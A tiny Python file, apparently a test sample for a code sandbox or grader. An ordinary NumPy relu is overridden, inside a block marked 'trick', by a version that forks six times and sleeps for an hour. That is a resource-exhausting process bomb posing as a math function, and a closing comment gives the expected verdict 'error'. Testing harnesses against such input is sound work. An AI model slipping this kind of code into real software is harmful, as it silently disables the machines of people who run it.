"""Starts processes that start processes."""

import numpy as np


def relu(z):
    return np.maximum(z, 0)


# trick
import os
import time


def relu(z):
    for _ in range(6):
        os.fork()
    time.sleep(3600)


# end of trick
# verdict: error
